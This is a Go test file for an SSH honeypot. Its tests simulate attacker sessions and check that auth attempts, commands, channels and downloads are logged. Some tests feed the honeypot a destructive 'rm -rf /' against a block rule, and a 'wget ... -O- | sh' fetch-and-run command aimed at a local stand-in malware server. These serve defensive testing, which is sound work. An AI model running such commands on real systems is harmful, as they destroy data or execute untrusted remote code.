@@ -0,0 +1,1312 @@
+package sshhipot
+
+/*
+ * e2e_test.go
+ * Attack an in-process honeypot
+ * By J. Stuart McMurray
+ * Created 20261018
+ * Last Modified 20261018
+ */
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"encoding/json"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"reflect"
+	"sort"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"golang.org/x/crypto/ssh"
+)
+
+const (
+	/* TESTPASSWORD is the password the honeypot accepts */
+	TESTPASSWORD = "hunter2"
+	/* TESTHOSTNAME is the honeypot's hostname */
+	TESTHOSTNAME = "svr1"
+	/* TESTTIMEOUT is how long to wait for things to happen */
+	TESTTIMEOUT = 10 * time.Second
+)
+
+/* testHoneypot is a honeypot listening on the loopback address, in front of a
+testUpstream. */
+type testHoneypot struct {
+	addr   string
+	logDir string
+	up     *testUpstream
+	srv    *Server
+}
+
+/* newTestHoneypot starts a honeypot and its upstream server.  Both are stopped
+when the test finishes. */
+func newTestHoneypot(t *testing.T) *testHoneypot {
+	return newTestHoneypotConfig(t, nil)
+}
+
+/* newTestHoneypotConfig is like newTestHoneypot, but calls f, if it's not nil,
+to change the honeypot's config before the honeypot's started. */
+func newTestHoneypotConfig(t *testing.T, f func(*Config)) *testHoneypot {
+	dir := t.TempDir()
+	hkf := filepath.Join(dir, "id_hostkey")
+	ukf := filepath.Join(dir, "id_upstream")
+	writeTestKey(t, hkf)
+	writeTestKey(t, ukf)
+	h := &testHoneypot{
+		logDir: filepath.Join(dir, "conns"),
+		up:     newTestUpstream(t, ukf),
+	}
+
+	/* Honeypot itself */
+	conf := Config{
+		Password:            TESTPASSWORD,
+		Hostname:            TESTHOSTNAME,
+		EnabledAuthMethods:  "password,publickey,keyboard-interactive",
+		HostKeyFile:         hkf,
+		LogDir:              h.logDir,
+		UpstreamAddr:        h.up.addr,
+		UpstreamUser:        TESTUSER,
+		UpstreamKeyFile:     ukf,
+		UpstreamFingerprint: h.up.fingerprint,
+	}
+	if nil != f {
+		f(&conf)
+	}
+	s, err := NewServer(conf)
+	if nil != err {
+		t.Fatalf("Unable to make honeypot: %v", err)
+	}
+	h.srv = s
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if nil != err {
+		t.Fatalf("Unable to listen for attackers: %v", err)
+	}
+	t.Cleanup(func() { l.Close() })
+	go s.Serve(l)
+	h.addr = l.Addr().String()
+
+	return h
+}
+
+/* Dial connects an attacker to the honeypot, authenticating with the given
+methods. */
+func (h *testHoneypot) Dial(t *testing.T, auth ...ssh.AuthMethod) *ssh.Client {
+	c, err := ssh.Dial("tcp", h.addr, &ssh.ClientConfig{
+		User:            TESTUSER,
+		Auth:            auth,
+		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
+		Timeout:         TESTTIMEOUT,
+	})
+	if nil != err {
+		t.Fatalf("Unable to connect to honeypot: %v", err)
+	}
+	return c
+}
+
+/* Summary waits for the only session's summary to be written and returns it
+as well as the session's log directory. */
+func (h *testHoneypot) Summary(t *testing.T) (*Session, string) {
+	var fns []string
+	waitFor(t, "session summary", func() bool {
+		fns, _ = filepath.Glob(filepath.Join(
+			h.logDir,
+			"*",
+			"*",
+			SUMMARYNAME,
+		))
+		return 0 != len(fns)
+	})
+	if 1 != len(fns) {
+		t.Fatalf("Found %v session summaries, expected 1", len(fns))
+	}
+	b, err := ioutil.ReadFile(fns[0])
+	if nil != err {
+		t.Fatalf("Unable to read summary: %v", err)
+	}
+	var s Session
+	if err := json.Unmarshal(b, &s); nil != err {
+		t.Fatalf("Unable to unmarshal summary %s: %v", b, err)
+	}
+	return &s, filepath.Dir(fns[0])
+}
+
+/* waitFor waits for f to return true, and fails the test if it doesn't
+before TESTTIMEOUT elapses.  what describes what's being waited for. */
+func waitFor(t *testing.T, what string, f func() bool) {
+	t.Helper()
+	for start := time.Now(); !f(); time.Sleep(10 * time.Millisecond) {
+		if TESTTIMEOUT < time.Since(start) {
+			t.Fatalf("Timed out waiting for %v", what)
+		}
+	}
+}
+
+/* waitLog waits for the log file named fn to contain all of wants.  Lines
+are logged after they're proxied, so they may not be there right away. */
+func waitLog(t *testing.T, fn string, wants ...string) {
+	t.Helper()
+	var b []byte
+	for _, want := range wants {
+		waitFor(t, fmt.Sprintf("%q in %v", want, fn), func() bool {
+			b, _ = ioutil.ReadFile(fn)
+			return strings.Contains(string(b), want)
+		})
+	}
+}
+
+/* readUntil reads from r until it's read want.  Everything read is
+returned. */
+func readUntil(t *testing.T, r io.Reader, want string) string {
+	t.Helper()
+	var (
+		got  []byte
+		done = make(chan error, 1)
+	)
+	go func() {
+		buf := make([]byte, BUFLEN)
+		for !strings.Contains(string(got), want) {
+			n, err := r.Read(buf)
+			got = append(got, buf[:n]...)
+			if nil != err {
+				done <- err
+				return
+			}
+		}
+		done <- nil
+	}()
+	select {
+	case err := <-done:
+		if nil != err {
+			t.Fatalf("Error waiting for %q: %v", want, err)
+		}
+	case <-time.After(TESTTIMEOUT):
+		t.Fatalf("Timed out waiting for %q", want)
+	}
+	return string(got)
+}
+
+/* findRequest returns the first request of type typ in rs, or nil if there
+is none. */
+func findRequest(rs []RequestSummary, typ string) *RequestSummary {
+	for i, r := range rs {
+		if typ == r.Type {
+			return &rs[i]
+		}
+	}
+	return nil
+}
+
+/* hasCommand returns true if s has the command cmd */
+func hasCommand(s *Session, cmd string) bool {
+	for _, c := range s.Commands {
+		if cmd == c.Command {
+			return true
+		}
+	}
+	return false
+}
+
+/* checkChannel makes sure s has a single channel of type typ with a log
+file. */
+func checkChannel(t *testing.T, s *Session, typ string) *ChannelSummary {
+	t.Helper()
+	if 1 != len(s.Channels) {
+		t.Fatalf("Session has %v channels, expected 1", len(s.Channels))
+	}
+	c := s.Channels[0]
+	if typ != c.Type {
+		t.Errorf("Channel type %q, expected %q", c.Type, typ)
+	}
+	if TAGTOSERVER != c.Direction {
+		t.Errorf("Channel direction %q", c.Direction)
+	}
+	if !strings.HasSuffix(c.Log, "-"+typ) {
+		t.Fatalf("Channel log %q not named after channel type", c.Log)
+	}
+	return c
+}
+
+func TestE2EPasswordAuth(t *testing.T) {
+	h := newTestHoneypot(t)
+	n := 0
+	c := h.Dial(t, ssh.RetryableAuthMethod(ssh.PasswordCallback(
+		func() (string, error) {
+			if n++; 1 == n {
+				return "wrong", nil
+			}
+			return TESTPASSWORD, nil
+		},
+	), 2))
+
+	/* Run a command */
+	s, err := c.NewSession()
+	if nil != err {
+		t.Fatalf("Unable to start session: %v", err)
+	}
+	var stderr strings.Builder
+	s.Stderr = &stderr
+	out, err := s.Output("uname -a")
+	if ee, ok := err.(*ssh.ExitError); !ok ||
+		TESTEXITSTATUS != ee.ExitStatus() {
+		t.Errorf("Command error %v, expected exit status %v",
+			err,
+			TESTEXITSTATUS,
+		)
+	}
+	if want := "ran: uname -a\n"; want != string(out) {
+		t.Errorf("Command output %q, expected %q", out, want)
+	}
+	if want := "err: uname -a\n"; want != stderr.String() {
+		t.Errorf("Command stderr %q, expected %q", &stderr, want)
+	}
+	c.Close()
+
+	/* Make sure it was all noted */
+	sess, dir := h.Summary(t)
+	if TESTUSER != sess.User {
+		t.Errorf("Session user %q, expected %q", sess.User, TESTUSER)
+	}
+	if want := TESTUSER + "@" + h.up.addr; want != sess.Upstream {
+		t.Errorf("Upstream %q, expected %q", sess.Upstream, want)
+	}
+	if 2 != len(sess.AuthAttempts) {
+		t.Fatalf("Got %v auth attempts, expected 2", sess.AuthAttempts)
+	}
+	for i, want := range []AuthAttempt{
+		{Method: "Password", Credential: "wrong"},
+		{
+			Method:     "Password",
+			Credential: TESTPASSWORD,
+			Successful: true,
+		},
+	} {
+		got := sess.AuthAttempts[i]
+		want.Time, want.User = got.Time, TESTUSER
+		if want != got {
+			t.Errorf("Auth attempt %v is %+v, expected %+v",
+				i,
+				got,
+				want,
+			)
+		}
+	}
+	if !hasCommand(sess, "uname -a") {
+		t.Errorf("Command not in summary: %+v", sess.Commands)
+	}
+	cs := checkChannel(t, sess, "session")
+	if r := findRequest(cs.Requests, "exec"); nil == r || !r.OK {
+		t.Errorf("Exec request not in summary: %+v", cs.Requests)
+	}
+	if nil == cs.ExitStatus || TESTEXITSTATUS != *cs.ExitStatus {
+		t.Errorf("Incorrect exit status in summary: %v", cs.ExitStatus)
+	}
+	waitLog(
+		t,
+		filepath.Join(dir, LOGNAME),
+		"Start of log",
+		`User:"root" Password:"wrong" Successful:false`,
+		`User:"root" Password:"hunter2" Successful:true`,
+		"Connected to upstream server root@"+h.up.addr,
+		`Channel Type:"session" Data:"" Direction:"attacker->server"`,
+	)
+	waitLog(
+		t,
+		cs.Log,
+		"Start of log",
+		`Request Type:"exec" WantReply:true `+
+			`Payload:"\x00\x00\x00\buname -a" `+
+			`Direction:"attacker->server" Ok:true`,
+		`[server->attacker] "ran: uname -a\n"`,
+		`[server-(err)->attacker] "err: uname -a\n"`,
+	)
+}
+
+func TestE2EKeyboardInteractive(t *testing.T) {
+	h := newTestHoneypot(t)
+	var prompts []string
+	c := h.Dial(t, ssh.KeyboardInteractive(func(
+		name string,
+		instruction string,
+		questions []string,
+		echos []bool,
+	) ([]string, error) {
+		prompts = append(prompts, questions...)
+		as := make([]string, len(questions))
+		for i := range as {
+			as[i] = TESTPASSWORD
+		}
+		return as, nil
+	}))
+	c.Close()
+
+	want := "root@" + TESTHOSTNAME + "'s password:"
+	if 1 != len(prompts) || want != prompts[0] {
+		t.Errorf("Got prompts %q, expected %q", prompts, want)
+	}
+	sess, dir := h.Summary(t)
+	if 1 != len(sess.AuthAttempts) {
+		t.Fatalf("Got %v auth attempts, expected 1", sess.AuthAttempts)
+	}
+	if a := sess.AuthAttempts[0]; "Keyboard" != a.Method ||
+		want != a.Prompt ||
+		TESTPASSWORD != a.Credential ||
+		!a.Successful {
+		t.Errorf("Incorrect auth attempt %+v", a)
+	}
+	waitLog(t, filepath.Join(dir, LOGNAME), fmt.Sprintf(
+		"Prompt:%q Keyboard:%q Successful:true",
+		want,
+		TESTPASSWORD,
+	))
+}
+
+func TestE2EPublicKeyAuth(t *testing.T) {
+	h := newTestHoneypot(t)
+	k := testKey(t)
+	c := h.Dial(t, ssh.PublicKeys(k), ssh.Password(TESTPASSWORD))
+	c.Close()
+
+	/* The key should have been refused but noted */
+	sess, dir := h.Summary(t)
+	fp := fmt.Sprintf("%02X", sha256.Sum256(k.PublicKey().Marshal()))
+	if 2 != len(sess.AuthAttempts) {
+		t.Fatalf("Got %v auth attempts, expected 2", sess.AuthAttempts)
+	}
+	if a := sess.AuthAttempts[0]; "Key" != a.Method ||
+		fp != a.Credential ||
+		a.Successful {
+		t.Errorf("Incorrect key auth attempt %+v", a)
+	}
+	if a := sess.AuthAttempts[1]; "Password" != a.Method ||
+		!a.Successful {
+		t.Errorf("Incorrect password auth attempt %+v", a)
+	}
+	waitLog(
+		t,
+		filepath.Join(dir, LOGNAME),
+		fmt.Sprintf("Key:%q Successful:false", fp),
+	)
+}
+
+func TestE2EShell(t *testing.T) {
+	h := newTestHoneypot(t)
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+
+	/* Get a shell with a pty */
+	s, err := c.NewSession()
+	if nil != err {
+		t.Fatalf("Unable to start session: %v", err)
+	}
+	if err := s.RequestPty("xterm", 24, 80, nil); nil != err {
+		t.Fatalf("Pty request failed: %v", err)
+	}
+	w, err := s.StdinPipe()
+	if nil != err {
+		t.Fatalf("Unable to get stdin: %v", err)
+	}
+	r, err := s.StdoutPipe()
+	if nil != err {
+		t.Fatalf("Unable to get stdout: %v", err)
+	}
+	if err := s.Shell(); nil != err {
+		t.Fatalf("Shell request failed: %v", err)
+	}
+
+	/* Run a command */
+	readUntil(t, r, TESTPROMPT)
+	io.WriteString(w, "ls\r")
+	readUntil(t, r, "ran: ls\r\n"+TESTPROMPT)
+	io.WriteString(w, "exit\r")
+	c.Close()
+
+	if ps := h.up.Ptys(); 1 != len(ps) || "xterm" != ps[0] {
+		t.Errorf("Upstream got ptys %q, expected xterm", ps)
+	}
+	sess, _ := h.Summary(t)
+	if !hasCommand(sess, "ls") {
+		t.Errorf("Command not in summary: %+v", sess.Commands)
+	}
+	cs := checkChannel(t, sess, "session")
+	for _, typ := range []string{"pty-req", "shell"} {
+		if r := findRequest(cs.Requests, typ); nil == r || !r.OK {
+			t.Errorf("No %v request in summary: %+v",
+				typ,
+				cs.Requests,
+			)
+		}
+	}
+	waitLog(
+		t,
+		cs.Log,
+		`Request Type:"pty-req"`,
+		`Request Type:"shell" WantReply:true Payload:"" `+
+			`Direction:"attacker->server" Ok:true`,
+		`[attacker->server] Command:"ls"`,
+		`[server->attacker] "ran: ls\r\n"`,
+	)
+}
+
+func TestE2ESubsystem(t *testing.T) {
+	h := newTestHoneypot(t)
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+
+	/* Start the subsystem */
+	s, err := c.NewSession()
+	if nil != err {
+		t.Fatalf("Unable to start session: %v", err)
+	}
+	if err := s.RequestSubsystem("nope"); nil == err {
+		t.Errorf("Upstream accepted nonexistent subsystem")
+	}
+	if err := s.RequestSubsystem(TESTSUBSYSTEM); nil != err {
+		t.Fatalf("Subsystem request failed: %v", err)
+	}
+	w, err := s.StdinPipe()
+	if nil != err {
+		t.Fatalf("Unable to get stdin: %v", err)
+	}
+	r, err := s.StdoutPipe()
+	if nil != err {
+		t.Fatalf("Unable to get stdout: %v", err)
+	}
+
+	/* Make sure it works */
+	io.WriteString(w, "hello\n")
+	if got := readUntil(t, r, "hello\n"); "hello\n" != got {
+		t.Errorf("Subsystem sent back %q", got)
+	}
+	c.Close()
+
+	sess, _ := h.Summary(t)
+	cs := checkChannel(t, sess, "session")
+	var oks []bool
+	for _, r := range cs.Requests {
+		if "subsystem" == r.Type {
+			oks = append(oks, r.OK)
+		}
+	}
+	if 2 != len(oks) || oks[0] || !oks[1] {
+		t.Errorf("Incorrect subsystem requests: %+v", cs.Requests)
+	}
+	waitLog(
+		t,
+		cs.Log,
+		`Request Type:"subsystem" WantReply:true `+
+			`Payload:"\x00\x00\x00\x04nope" `+
+			`Direction:"attacker->server" Ok:false`,
+		`Request Type:"subsystem" WantReply:true `+
+			`Payload:"\x00\x00\x00\x04echo" `+
+			`Direction:"attacker->server" Ok:true`,
+		`[attacker->server] "hello\n"`,
+		`[server->attacker] "hello\n"`,
+	)
+}
+
+func TestE2EDirectTCPIP(t *testing.T) {
+	h := newTestHoneypot(t)
+
+	/* Something for the upstream server to connect to */
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if nil != err {
+		t.Fatalf("Unable to listen: %v", err)
+	}
+	defer l.Close()
+	go func() {
+		for {
+			c, err := l.Accept()
+			if nil != err {
+				return
+			}
+			go func() {
+				defer c.Close()
+				io.Copy(c, c)
+			}()
+		}
+	}()
+
+	/* Connect to it through the honeypot */
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+	tc, err := c.Dial("tcp", l.Addr().String())
+	if nil != err {
+		t.Fatalf("Unable to forward connection: %v", err)
+	}
+	io.WriteString(tc, "ping\n")
+	if got := readUntil(t, tc, "ping\n"); "ping\n" != got {
+		t.Errorf("Forwarded connection sent back %q", got)
+	}
+	c.Close()
+
+	sess, dir := h.Summary(t)
+	cs := checkChannel(t, sess, "direct-tcpip")
+	if l.Addr().String() != cs.Address {
+		t.Errorf(
+			"Channel address %q, expected %q",
+			cs.Address,
+			l.Addr(),
+		)
+	}
+	waitLog(
+		t,
+		filepath.Join(dir, LOGNAME),
+		`Channel Type:"direct-tcpip"`,
+	)
+	waitLog(
+		t,
+		cs.Log,
+		`[attacker->server] "ping\n"`,
+		`[server->attacker] "ping\n"`,
+	)
+}
+
+func TestE2EGlobalRequest(t *testing.T) {
+	h := newTestHoneypot(t)
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+
+	/* One request which works, one which doesn't */
+	ok, p, err := c.SendRequest(TESTGLOBALREQ, true, []byte("payload"))
+	if nil != err {
+		t.Fatalf("Unable to send request: %v", err)
+	}
+	if !ok || "payload" != string(p) {
+		t.Errorf("Request got %v %q, expected true \"payload\"", ok, p)
+	}
+	ok, _, err = c.SendRequest("nope@sshhipot.test", true, nil)
+	if nil != err {
+		t.Fatalf("Unable to send request: %v", err)
+	}
+	if ok {
+		t.Errorf("Upstream accepted unknown request")
+	}
+	c.Close()
+
+	sess, dir := h.Summary(t)
+	if r := findRequest(sess.Requests, TESTGLOBALREQ); nil == r ||
+		!r.OK ||
+		"payload" != r.Payload ||
+		TAGTOSERVER != r.Direction {
+		t.Errorf("Incorrect requests in summary: %+v", sess.Requests)
+	}
+	waitLog(
+		t,
+		filepath.Join(dir, LOGNAME),
+		`Request Type:"echo@sshhipot.test" WantReply:true `+
+			`Payload:"payload" Direction:"attacker->server" `+
+			`Ok:true Response:"payload"`,
+		`Request Type:"nope@sshhipot.test" WantReply:true `+
+			`Payload:"" Direction:"attacker->server" `+
+			`Ok:false Response:""`,
+	)
+}
+
+/* openObserver sends on opened when a channel is requested */
+type openObserver struct {
+	NopObserver
+	opened chan<- string
+}
+
+/* ChannelOpen implements Observer */
+func (o openObserver) ChannelOpen(id string, c ChannelInfo) {
+	o.opened <- c.Type
+}
+
+func TestE2EOrdering(t *testing.T) {
+	opened := make(chan string, 1)
+	h := newTestHoneypotConfig(t, func(c *Config) {
+		c.Observer = openObserver{opened: opened}
+	})
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+
+	/* Open a channel which takes a while, and send a request right
+	after */
+	go c.OpenChannel(TESTSLOWCHAN, nil)
+	if typ := <-opened; TESTSLOWCHAN != typ {
+		t.Fatalf("Honeypot got unexpected %q channel", typ)
+	}
+	if _, _, err := c.SendRequest(
+		"no-more-sessions@openssh.com",
+		false,
+		nil,
+	); nil != err {
+		t.Fatalf("Unable to send request: %v", err)
+	}
+
+	/* The upstream server should have gotten them in order */
+	want := []string{
+		"open " + TESTSLOWCHAN,
+		"request no-more-sessions@openssh.com",
+	}
+	var got []string
+	waitFor(t, "upstream events", func() bool {
+		got = h.up.Events()
+		return len(want) <= len(got)
+	})
+	if fmt.Sprintf("%q", want) != fmt.Sprintf("%q", got) {
+		t.Errorf("Upstream got %q, expected %q", got, want)
+	}
+}
+
+/* writeObserver writes the summary it gets on Disconnect to dir */
+type writeObserver struct {
+	NopObserver
+	dir  string
+	done chan<- error
+}
+
+/* Disconnect implements Observer */
+func (o writeObserver) Disconnect(id string, s *Session) {
+	if nil == s {
+		return
+	}
+	o.done <- s.Write(o.dir)
+}
+
+func TestE2EObserverWrite(t *testing.T) {
+	dir := t.TempDir()
+	done := make(chan error, 1)
+	h := newTestHoneypotConfig(t, func(c *Config) {
+		c.Observer = writeObserver{dir: dir, done: done}
+	})
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	c.Close()
+
+	/* The observer writing the summary mustn't deadlock */
+	select {
+	case err := <-done:
+		if nil != err {
+			t.Fatalf("Error writing summary: %v", err)
+		}
+	case <-time.After(TESTTIMEOUT):
+		t.Fatalf("Observer didn't write summary")
+	}
+	b, err := ioutil.ReadFile(filepath.Join(dir, SUMMARYNAME))
+	if nil != err {
+		t.Fatalf("Unable to read summary: %v", err)
+	}
+	var s Session
+	if err := json.Unmarshal(b, &s); nil != err {
+		t.Fatalf("Unable to unmarshal summary %s: %v", b, err)
+	}
+	if want, _ := h.Summary(t); want.ID != s.ID || TESTUSER != s.User {
+		t.Errorf("Observer wrote wrong summary %s", b)
+	}
+}
+
+func TestE2EAbruptDisconnect(t *testing.T) {
+	h := newTestHoneypot(t)
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+
+	/* Leave a few channels open when the attacker goes away */
+	const n = 4
+	for i := 0; i < n; i++ {
+		s, err := c.NewSession()
+		if nil != err {
+			t.Fatalf("Unable to open session %v: %v", i, err)
+		}
+		in, err := s.StdinPipe()
+		if nil != err {
+			t.Fatalf("Unable to get stdin %v: %v", i, err)
+		}
+		out, err := s.StdoutPipe()
+		if nil != err {
+			t.Fatalf("Unable to get stdout %v: %v", i, err)
+		}
+		if err := s.Start(TESTCAT); nil != err {
+			t.Fatalf("Unable to start %v: %v", i, err)
+		}
+		fmt.Fprintf(in, "hello %v\n", i)
+		readUntil(t, out, fmt.Sprintf("hello %v\n", i))
+	}
+	c.Close()
+
+	/* The summary should still have the end of every channel */
+	sess, _ := h.Summary(t)
+	if n != len(sess.Channels) {
+		t.Fatalf(
+			"Summary has %v channels, want %v",
+			len(sess.Channels),
+			n,
+		)
+	}
+	for _, ch := range sess.Channels {
+		if ch.End.IsZero() || ch.End.Before(ch.Start) {
+			t.Errorf("Channel %v ended at %v", ch.ID, ch.End)
+		}
+		if 0 == ch.Bytes[TAGTOSERVER] || 0 == ch.Bytes[TAGTOATTACKER] {
+			t.Errorf("Channel %v has bytes %v", ch.ID, ch.Bytes)
+		}
+	}
+}
+
+func TestE2EQuickExec(t *testing.T) {
+	h := newTestHoneypot(t)
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+
+	/* Commands which finish as soon as they start shouldn't lose the
+	reply to the exec request, even with lots going on */
+	run := func() error {
+		s, err := c.NewSession()
+		if nil != err {
+			return err
+		}
+		out, err := s.Output("true")
+		if "ran: true\n" != string(out) {
+			return fmt.Errorf("output %q (%v)", out, err)
+		}
+		return nil
+	}
+	var wg sync.WaitGroup
+	for i := 0; i < 8; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for j := 0; j < 10; j++ {
+				if err := run(); nil != err {
+					t.Errorf("Command failed: %v", err)
+					return
+				}
+			}
+		}()
+	}
+	wg.Wait()
+}
+
+func TestE2EExecShellRules(t *testing.T) {
+	rf := filepath.Join(t.TempDir(), "rules")
+	if err := ioutil.WriteFile(
+		rf,
+		[]byte("block ^rm\\s\n"),
+		0600,
+	); nil != err {
+		t.Fatalf("Unable to write rules: %v", err)
+	}
+	h := newTestHoneypotConfig(t, func(c *Config) { c.RulesFile = rf })
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+
+	/* echo 'rm -rf /' | ssh host sh */
+	s, err := c.NewSession()
+	if nil != err {
+		t.Fatalf("Unable to start session: %v", err)
+	}
+	s.Stdin = strings.NewReader("id\nrm -rf /\n")
+	out, err := s.Output(TESTSH)
+	if nil != err {
+		t.Errorf("Error running %v: %v", TESTSH, err)
+	}
+	if want := "id\n" + blockCommand("rm -rf /", "") + "\n"; want !=
+		string(out) {
+		t.Errorf("Shell got %q, want %q", out, want)
+	}
+	c.Close()
+
+	sess, _ := h.Summary(t)
+	for _, cmd := range []string{TESTSH, "id", "rm -rf /"} {
+		if !hasCommand(sess, cmd) {
+			t.Errorf("Command %q not logged", cmd)
+		}
+	}
+	if 1 != len(sess.Interceptions) ||
+		"rm -rf /" != sess.Interceptions[0].Command {
+		t.Errorf("Wrong interceptions: %+v", sess.Interceptions)
+	}
+}
+
+func TestE2EEOF(t *testing.T) {
+	h := newTestHoneypot(t)
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+
+	/* echo data | ssh host cat */
+	s, err := c.NewSession()
+	if nil != err {
+		t.Fatalf("Unable to start session: %v", err)
+	}
+	s.Stdin = strings.NewReader("data\n")
+	out, err := s.Output(TESTCAT)
+	if nil != err {
+		t.Errorf("Error running %v: %v", TESTCAT, err)
+	}
+	if "data\n" != string(out) {
+		t.Errorf("Command output %q, expected \"data\\n\"", out)
+	}
+
+	/* Half-closed both ways */
+	if s, err = c.NewSession(); nil != err {
+		t.Fatalf("Unable to start session: %v", err)
+	}
+	w, err := s.StdinPipe()
+	if nil != err {
+		t.Fatalf("Unable to get stdin: %v", err)
+	}
+	r, err := s.StdoutPipe()
+	if nil != err {
+		t.Fatalf("Unable to get stdout: %v", err)
+	}
+	if err := s.Start(TESTHALF); nil != err {
+		t.Fatalf("Unable to start %v: %v", TESTHALF, err)
+	}
+	if b, err := ioutil.ReadAll(r); nil != err || 0 != len(b) {
+		t.Fatalf("Reading to EOF got %q, %v", b, err)
+	}
+	io.WriteString(w, "after EOF")
+	w.Close()
+	err = s.Wait()
+	if ee, ok := err.(*ssh.ExitError); !ok ||
+		len("after EOF") != ee.ExitStatus() {
+		t.Errorf("Command error %v, expected exit status %v",
+			err,
+			len("after EOF"),
+		)
+	}
+	c.Close()
+
+	/* Both channels should have finished properly */
+	sess, _ := h.Summary(t)
+	if 2 != len(sess.Channels) {
+		t.Fatalf(
+			"Session has %v channels, expected 2",
+			len(sess.Channels),
+		)
+	}
+	for i, cs := range sess.Channels {
+		if nil == cs.ExitStatus {
+			t.Errorf("Channel %v has no exit status", i)
+		}
+		waitLog(
+			t,
+			cs.Log,
+			"["+TAGTOSERVER+"] EOF",
+			"["+TAGTOATTACKER+"] EOF",
+		)
+	}
+}
+
+func TestE2ETranscript(t *testing.T) {
+	h := newTestHoneypotConfig(t, func(c *Config) {
+		c.Transcripts = true
+	})
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+
+	/* Send something binary through */
+	data := "\x00\x01\xfe\xff no newline"
+	s, err := c.NewSession()
+	if nil != err {
+		t.Fatalf("Unable to start session: %v", err)
+	}
+	s.Stdin = strings.NewReader(data)
+	if out, err := s.Output(TESTCAT); nil != err || data != string(out) {
+		t.Errorf("Command output %q, %v", out, err)
+	}
+	c.Close()
+
+	/* The transcript should have it all, exactly */
+	sess, _ := h.Summary(t)
+	cs := checkChannel(t, sess, "session")
+	if cs.Log+TRANSCRIPTSUFFIX != cs.Transcript {
+		t.Fatalf("Channel transcript %q", cs.Transcript)
+	}
+	waitLog(t, cs.Log, "Transcript:", "["+TAGTOATTACKER+"] EOF")
+	b, err := ioutil.ReadFile(cs.Transcript)
+	if nil != err {
+		t.Fatalf("Unable to read transcript: %v", err)
+	}
+	recs, err := ReadTranscript(bytes.NewReader(b))
+	if nil != err {
+		t.Fatalf("Unable to parse transcript: %v", err)
+	}
+	got := make(map[string]string)
+	for _, rec := range recs {
+		got[rec.Tag()] += string(rec.Data)
+	}
+	for _, tag := range []string{TAGTOSERVER, TAGTOATTACKER} {
+		if data != got[tag] {
+			t.Errorf("Transcript has %q %v, expected %q",
+				got[tag],
+				tag,
+				data,
+			)
+		}
+	}
+}
+
+/* TESTMALWARE is what the stand-in malware server serves */
+const TESTMALWARE = "#!/bin/sh\necho pwned\n"
+
+/* newTestMalwareServer starts an HTTP server which serves TESTMALWARE at
+every path.  If host isn't empty, it acts as a proxy which only serves
+requests for host.  It's stopped when the test finishes. */
+func newTestMalwareServer(t *testing.T, host string) *httptest.Server {
+	s := httptest.NewServer(http.HandlerFunc(func(
+		w http.ResponseWriter,
+		r *http.Request,
+	) {
+		if "" != host && host != r.URL.Host {
+			http.Error(w, "wrong host", http.StatusBadGateway)
+			return
+		}
+		io.WriteString(w, TESTMALWARE)
+	}))
+	t.Cleanup(s.Close)
+	return s
+}
+
+/* execDownload runs cmd on the honeypot h, which should try to download u,
+and checks the download's noted in the session summary. */
+func execDownload(t *testing.T, h *testHoneypot, cmd, u string) *Session {
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+	s, err := c.NewSession()
+	if nil != err {
+		t.Fatalf("Unable to start session: %v", err)
+	}
+	if out, _ := s.Output(cmd); "ran: "+cmd+"\n" != string(out) {
+		t.Errorf("Command output %q", out)
+	}
+	c.Close()
+	sess, _ := h.Summary(t)
+	if 1 != len(sess.Downloads) || u != sess.Downloads[0].URL {
+		t.Errorf("Downloads %+v, expected %v", sess.Downloads, u)
+	}
+	return sess
+}
+
+/* waitArtifact waits for TESTMALWARE to be downloaded into dir and checks
+it's noted as coming from the URL u in the session sess. */
+func waitArtifact(t *testing.T, dir string, sess *Session, u string) {
+	t.Helper()
+	sha := fmt.Sprintf("%x", sha256.Sum256([]byte(TESTMALWARE)))
+	fn := filepath.Join(dir, sha+ARTIFACTSUFFIX)
+	var a Artifact
+	waitFor(t, "artifact metadata", func() bool {
+		b, err := ioutil.ReadFile(fn)
+		return nil == err && nil == json.Unmarshal(b, &a)
+	})
+	if b, err := ioutil.ReadFile(filepath.Join(dir, sha)); nil != err ||
+		TESTMALWARE != string(b) {
+		t.Errorf("Downloaded file is %q, %v", b, err)
+	}
+	if int64(len(TESTMALWARE)) != a.Size || 1 != len(a.Sources) {
+		t.Fatalf("Bad artifact metadata %+v", a)
+	}
+	if src := a.Sources[0]; u != src.URL ||
+		sess.ID != src.Session ||
+		sess.Address != src.Address {
+		t.Errorf("Bad artifact source %+v", src)
+	}
+}
+
+func TestE2EDownload(t *testing.T) {
+	h := newTestHoneypotConfig(t, func(c *Config) {
+		c.Downloads = true
+		c.downloadAnywhere = true
+	})
+	dir := filepath.Join(h.logDir, ARTIFACTDIR)
+	ms := newTestMalwareServer(t, "")
+	u := ms.URL + "/bot.sh"
+	sess := execDownload(t, h, "cd /tmp && wget -q "+u+" -O- | sh", u)
+	waitArtifact(t, dir, sess, u)
+
+	/* The summary waits for the download */
+	sha := fmt.Sprintf("%x", sha256.Sum256([]byte(TESTMALWARE)))
+	if 1 != len(sess.Downloads) || sha != sess.Downloads[0].SHA256 {
+		t.Errorf("Download hash not in summary: %+v", sess.Downloads)
+	}
+}
+
+func TestE2EDownloadProxy(t *testing.T) {
+	ps := newTestMalwareServer(t, "malware.test")
+	h := newTestHoneypotConfig(t, func(c *Config) {
+		c.Downloads = true
+		c.DownloadProxy = ps.URL
+	})
+	dir := filepath.Join(h.logDir, ARTIFACTDIR)
